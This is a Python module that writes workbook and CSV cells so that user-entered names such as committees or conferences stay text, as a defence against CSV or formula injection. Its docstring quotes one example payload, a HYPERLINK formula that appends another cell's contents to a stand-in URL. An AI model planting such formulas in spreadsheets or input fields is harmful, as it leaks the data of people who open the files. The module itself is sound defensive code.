"""Cells of the spreadsheets the app writes (Excel workbooks and CSV files): every text cell stays text.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) may take a cell whose text begins with =, +, -, @, a tab
or a carriage return for a formula: a committee named `=HYPERLINK("http://…?"&A2,"Bấm vào đây")` would become a
live link in the upper level's workbook, which sends the next cell's content away (OWASP: CSV injection). Anyone
who may type a name (an organizer: committees, people, posts, conferences, rounds) could plant one. So every
workbook and CSV of the app is written through this module:

- in a workbook, a text cell is always of the string type (openpyxl would type "=..." as a formula), written as
  an inline string, and one that begins with such a character also carries Excel's quote prefix (it stays text
  when someone edits it); its text is exactly the name, characters XML cannot hold aside (replaced by U+FFFD);
- in a CSV, a text cell that begins with such a character is written with a leading apostrophe, as OWASP advises:
  the one change to its text.

Numbers, dates and empty cells are written as they are. On screen and in the PDFs names are shown exactly; they
are not spreadsheets.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """Whether a spreadsheet program could read this text as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _cell(sheet, value: object):
    if not isinstance(value, str):
        return value
    cell = Cell(sheet)
    cell._value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)  # the text as it is: the value setter would see "=..."
    cell.data_type = "s"  # as a formula, and refuses control characters
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def text_safe_append(sheet, values: Iterable[object]) -> None:
    """Append a row to a worksheet, every text cell as text (see the module's docstring)."""
    sheet.append([_cell(sheet, value) for value in values])


def csv_cell(value: object) -> object:
    """A value for a CSV cell: text beginning like a formula gets a leading apostrophe; None is empty."""
    if value is None:
        return ""
    if looks_like_formula(value):
        return "'" + value
    return value


def csv_file(rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file (UTF-8 with a byte order mark, so that Excel reads Vietnamese right), every text cell safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
